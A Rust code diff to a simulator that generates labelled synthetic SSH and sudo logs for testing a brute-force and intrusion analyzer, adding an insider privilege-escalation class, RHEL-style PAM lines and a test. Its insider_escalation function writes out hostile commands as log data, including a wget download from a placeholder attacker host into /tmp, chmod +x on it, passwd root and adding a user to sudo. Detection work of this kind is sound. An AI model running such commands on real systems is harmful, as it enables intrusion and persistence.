@@ -14,7 +14,9 @@
 //! travelling admins, automation, mistyping users), their habits, and the
 //! attacks it suffers (fast, slow and distributed brute force, credential
 //! stuffing that gets in, post-compromise sessions on a stolen account,
-//! bots). Labels are the scenario's: every address belongs to one actor, and
+//! bots, insiders whose sudo refuses to make them root), some of it on the
+//! first day of a fresh install; users sometimes keep two sessions open;
+//! every third device writes RHEL's PAM failure lines. Labels are the scenario's: every address belongs to one actor, and
 //! an observation carries its address's class. Evaluation holds out whole
 //! devices ([`TimelineConfig::holdout`]).
 
@@ -33,7 +35,7 @@ use bfp_logs::AuthAttempt;
 use crate::sim::rng::Rng;
 
 /// 2026-10-01 00:00:00 UTC: the first simulated day.
-const EPOCH: i64 = 1_790_812_800;
+pub const EPOCH: i64 = 1_790_812_800;
 
 /// Who an address (or a device window) belongs to.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
@@ -64,13 +66,17 @@ pub enum Class {
     PostCompromise,
     /// Bots that log in with a known password and fire commands at machine speed.
     MachineSpeedBot,
+    /// A user of the device, from an address of their own (a VPN), trying to
+    /// become root through sudo, which refuses: `passwd root`, `su -`, a
+    /// shell, `useradd`, a download into /tmp.
+    InsiderEscalation,
     /// A device-wide window with attack traffic in it.
     DeviceUnderAttack,
 }
 
 impl Class {
     /// Every class, benign first.
-    pub const ALL: [Class; 14] = [
+    pub const ALL: [Class; 15] = [
         Class::OfficeWorker,
         Class::NightShiftAdmin,
         Class::TravellingAdmin,
@@ -84,6 +90,7 @@ impl Class {
         Class::CredentialStuffing,
         Class::PostCompromise,
         Class::MachineSpeedBot,
+        Class::InsiderEscalation,
         Class::DeviceUnderAttack,
     ];
 
@@ -108,6 +115,7 @@ impl Class {
             Class::CredentialStuffing => "credential_stuffing",
             Class::PostCompromise => "post_compromise",
             Class::MachineSpeedBot => "machine_speed_bot",
+            Class::InsiderEscalation => "insider_escalation",
             Class::DeviceUnderAttack => "device_window_attacked",
         }
     }
@@ -226,7 +234,16 @@ const DICTIONARY: [&str; 16] = [
 /// Builds one device's timeline. Deterministic for `cfg.seed` and `index`.
 pub fn device(cfg: &TimelineConfig, index: u32) -> Device {
     let mut rng = Rng::new(cfg.seed ^ u64::from(index + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15));
-    let mut b = Builder { events: Vec::new(), owners: HashMap::new(), attacks: Vec::new(), pid: 1000, office: None };
+    // Every third device logs as RHEL does: pam_unix's failure line before
+    // sshd's own (the analyzer pairs the two into one failure).
+    let mut b = Builder {
+        events: Vec::new(),
+        owners: HashMap::new(),
+        attacks: Vec::new(),
+        pid: 1000,
+        office: None,
+        rhel: index % 3 == 2,
+    };
     // The office: one NAT address that several users share on workdays.
     let office_net = network(&mut rng, &BENIGN_FIRSTS);
     let office_ip = host(&mut rng, office_net);
@@ -303,6 +320,23 @@ pub fn device(cfg: &TimelineConfig, index: u32) -> Device {
         let t = when(&mut rng);
         b.bot(&mut rng, t);
     }
+    for _ in 0..rng.int(1, 3) {
+        let t = when(&mut rng);
+        let insider = existing[rng.int(0, existing.len() as u32 - 1) as usize];
+        b.insider_escalation(&mut rng, t, insider);
+    }
+    // A device installed while under attack: on half of them a brute force
+    // (that sometimes gets in) and an escalation attempt on the first day,
+    // while its users log in for the first time.
+    if rng.chance(0.5) {
+        let t = EPOCH + i64::from(rng.int(3600, 72_000));
+        b.fast_brute_force(&mut rng, t, &existing);
+        let t = EPOCH + i64::from(rng.int(3600, 72_000));
+        b.credential_stuffing(&mut rng, t, &existing);
+        let t = EPOCH + i64::from(rng.int(3600, 72_000));
+        let insider = existing[rng.int(0, existing.len() as u32 - 1) as usize];
+        b.insider_escalation(&mut rng, t, insider);
+    }
 
     // Stable sort: lines of one event at the same second keep their order.
     b.events.sort_by_key(|(t, _)| *t);
@@ -324,6 +358,8 @@ struct Builder {
     pid: u32,
     /// The office's shared (NAT) address.
     office: Option<IpAddr>,
+    /// RHEL-style PAM lines (see [`device`]).
+    rhel: bool,
 }
 
 /// A random address in a /24 drawn from `firsts`.
@@ -350,6 +386,15 @@ impl Builder {
 
     fn failure(&mut self, t: i64, pid: u32, user: &str, ip: IpAddr, invalid: bool) {
         let inv = if invalid { "invalid user " } else { "" };
+        if self.rhel && !invalid {
+            self.events.push((
+                t,
+                format!(
+                    "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= \
+                     rhost={ip}  user={user}"
+                ),
+            ));
+        }
         self.events.push((
             t,
             format!("sshd[{pid}]: Failed password for {inv}{user} from {ip} port {} ssh2", 30000 + pid % 30000),
@@ -476,6 +521,24 @@ impl Builder {
                     }
                 }
                 self.session(t, user, ip, false, typos, &cmds, dur);
+                // Now and then a second session of the same user while the
+                // first is open (a second terminal).
+                if dur > 600 && rng.chance(0.08) {
+                    let second = t + i64::from(rng.int(60, (dur / 2) as u32));
+                    let c = mine[rng.int(0, mine.len() as u32 - 1) as usize];
+                    self.session(second, user, ip, false, 0, &[(30, c.to_string())], dur / 3);
+                }
+                // A user who is no admin forgets it once in a while.
+                if class == Class::OfficeWorker && rng.chance(0.01) {
+                    let home = format!("/home/{user}");
+                    self.events.push((
+                        t + 30,
+                        format!(
+                            "sudo: {user} : user NOT in sudoers ; TTY=pts/0 ; PWD={home} ; USER=root ; \
+                             COMMAND=/usr/bin/apt update"
+                        ),
+                    ));
+                }
             }
         }
     }
@@ -595,6 +658,55 @@ impl Builder {
         let cmds = Builder::intruder_commands(rng, false, (5, 90));
         let dur = cmds.last().map_or(5, |c| c.0) + i64::from(rng.int(30, 900));
         self.session(t, victim, ip, false, rng.int(0, 1), &cmds, dur);
+        self.attacks.push((t, t + dur));
+    }
+
+    /// A user tries to become root through sudo, from an address of their
+    /// own; sudo refuses (not in sudoers, or the command not allowed).
+    fn insider_escalation(&mut self, rng: &mut Rng, t: i64, user: &str) {
+        const TRIES: [&str; 7] = [
+            "/usr/bin/passwd root",
+            "/usr/bin/su -",
+            "/bin/bash",
+            "/usr/sbin/useradd -m -G sudo svc-backup",
+            "/usr/sbin/usermod -aG sudo {user}",
+            "/usr/bin/wget http://{c2}/x -O /tmp/.x",
+            "/bin/chmod +x /tmp/.x",
+        ];
+        let ip = loop {
+            let net = network(rng, &BENIGN_FIRSTS);
+            let candidate = host(rng, net);
+            if !self.owners.contains_key(&candidate) {
+                break candidate;
+            }
+        };
+        self.own(ip, Class::InsiderEscalation);
+        let c2 = format!("{}.{}.{}.9", ATTACK_FIRSTS[rng.int(0, 9) as usize], rng.int(0, 255), rng.int(0, 255));
+        let recon = Builder::intruder_commands(rng, true, (5, 60));
+        let dur = i64::from(rng.int(300, 1800));
+        let pid = self.next_pid();
+        let port = 30000 + pid % 30000;
+        self.events.push((t, format!("sshd[{pid}]: Accepted password for {user} from {ip} port {port} ssh2")));
+        self.events.push((
+            t,
+            format!("sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"),
+        ));
+        let home = format!("/home/{user}");
+        let mut at = 10;
+        for (after, c) in recon.iter().take(2) {
+            at = *after + 10;
+            self.events.push((t + at, format!("sudo: {user} : TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND={c}")));
+        }
+        for _ in 0..rng.int(1, 3) {
+            at += i64::from(rng.int(5, 120));
+            let tried = TRIES[rng.int(0, TRIES.len() as u32 - 1) as usize].replace("{user}", user).replace("{c2}", &c2);
+            let why = if rng.chance(0.6) { "user NOT in sudoers" } else { "command not allowed" };
+            self.events.push((
+                t + at.min(dur - 1),
+                format!("sudo: {user} : {why} ; TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND={tried}"),
+            ));
+        }
+        self.events.push((t + dur, format!("sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}")));
         self.attacks.push((t, t + dur));
     }
 
@@ -789,6 +901,33 @@ mod tests {
         let stats = analyzer.stats();
         assert_eq!(stats.unknown_total(), 0, "{:?}", stats.unknown);
         assert!(stats.sessions > 100 && stats.failed_logins > 100, "{stats:?}");
+    }
+
+    #[test]
+    fn a_rhel_device_counts_each_failure_once_and_its_insiders_are_refused() {
+        let cfg = TimelineConfig { devices: 3, ..small() };
+        let d = device(&cfg, 2);
+        let pam = d.lines.iter().filter(|l| l.contains("pam_unix(sshd:auth): authentication failure")).count();
+        let sshd = d.lines.iter().filter(|l| l.contains("Failed password for")).count();
+        assert!(pam > 10, "a RHEL-style device writes pam_unix's failure lines");
+        let refusals = d
+            .lines
+            .iter()
+            .filter(|l| {
+                l.contains("sudo:") && l.contains(" ; TTY=") && l.contains("NOT in sudoers")
+                    || l.contains("command not allowed")
+            })
+            .count();
+        assert!(refusals > 0);
+        let mut analyzer = Analyzer::new(AnalyzerConfig { reference_time: Some(d.end), ..AnalyzerConfig::default() });
+        for line in &d.lines {
+            analyzer.feed_line(line, LogFormat::Syslog);
+        }
+        let stats = analyzer.stats();
+        assert_eq!(stats.unknown_total(), 0, "{:?}", stats.unknown);
+        // The pam_unix line and sshd's own are one failure.
+        assert_eq!(stats.failed_logins, sshd as u64, "{stats:?}");
+        assert_eq!(stats.privilege_refusals, refusals as u64);
     }
 
     #[test]
